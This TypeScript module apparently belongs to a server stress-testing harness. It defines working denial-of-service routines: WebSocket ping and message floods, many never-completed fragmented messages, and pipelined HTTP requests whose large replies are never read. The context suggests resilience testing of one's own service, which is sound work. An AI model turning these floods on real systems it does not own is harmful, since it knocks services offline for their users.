import type { Socket } from 'node:net';
import { frameOf, OPCODES } from '../../raw-line.ts';
import { type Attack, MANY_ADDRESSES, ONE_ADDRESS, type Target } from '../attack.ts';
import { openSocket, openWebSocket, pour, swarm } from '../swarm.ts';

const PER_ADDRESS = 60;
const CONTROL_OPCODES = { ping: OPCODES.ping, pong: 10 } as const;

/** The pongs are unasked, and make it look alive. */
const PINGS = Buffer.concat(
  Array.from({ length: 500 }, (_, n) =>
    frameOf(n % 50 === 0 ? CONTROL_OPCODES.pong : CONTROL_OPCODES.ping, Buffer.alloc(125)),
  ),
);
const MESSAGES = Buffer.concat(Array.from({ length: 1000 }, (_, n) => frameOf(OPCODES.text, `{"ping":${n}}`)));

function flood(name: string, bytes: Buffer, isRead: boolean): Attack {
  return {
    name,
    async run(target, deadline) {
      const sockets: Socket[] = [];
      const begin = async (address: string) => {
        const socket = await openWebSocket(target, address);
        if (socket === undefined) return undefined;
        if (isRead) socket.resume();
        else socket.pause();
        sockets.push(socket);
        pour(socket, bytes, deadline);
        return socket;
      };
      const plan = { count: PER_ADDRESS, addresses: ONE_ADDRESS, deadline, perSecond: 200 * target.scale };
      const opened = await swarm({ ...plan, begin });
      const written = sockets.reduce((sum, { bytesWritten }) => sum + bytesWritten, 0);
      return { volume: `${megabytes(written)} on ${opened} sockets` };
    },
  };
}

export const pingFlood = flood('ping flood, pongs unread', PINGS, false);
export const messageFlood = flood('message flood', MESSAGES, true);

/** As many fragments as one message may have, and none of them the last. */
const FRAGMENTS = Buffer.concat([
  frameOf(OPCODES.text, Buffer.alloc(900, ' '), { isLast: false }),
  ...Array.from({ length: 62 }, () => frameOf(OPCODES.more, Buffer.alloc(900, ' '), { isLast: false })),
]);
const SMALL_FRAGMENTS = Buffer.concat(
  Array.from({ length: 200 }, (_, n) => frameOf(n === 0 ? OPCODES.text : OPCODES.more, ' ', { isLast: false })),
);

export const fragments: Attack = {
  name: 'unfinished fragments',
  async run(target, deadline) {
    let n = 0;
    const begin = async (address: string) => {
      const socket = await openWebSocket(target, address);
      socket?.write(n++ % 10 === 0 ? SMALL_FRAGMENTS : FRAGMENTS);
      socket?.resume();
      return socket;
    };
    const count = PER_ADDRESS * 10 * target.scale;
    const opened = await swarm({ count, addresses: MANY_ADDRESSES, deadline, perSecond: 500, begin });
    return { volume: `${opened} messages never finished` };
  },
};

const PIPELINED_CALLS = 100;
const PIPELINED = Buffer.from('GET /api/openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n'.repeat(PIPELINED_CALLS));

/** Asks for the longest reply there is, again and again, and reads none. */
export const unreadReplies: Attack = {
  name: 'unread replies',
  async run(target: Target, deadline) {
    const begin = (address: string): Socket => {
      const socket = openSocket(target, address);
      socket.pause();
      socket.write(PIPELINED);
      // Who does not read does not see that it was cut.
      setTimeout(() => socket.destroy(), 1000);
      return socket;
    };
    const plan = { count: 200 * target.scale, addresses: MANY_ADDRESSES, deadline, perSecond: 100 };
    const opened = await swarm({ ...plan, begin });
    return { volume: `${opened * PIPELINED_CALLS} calls on ${opened} connections` };
  },
};

function megabytes(bytes: number): string {
  return `${(bytes / 1e6).toFixed(0)} MB`;
}
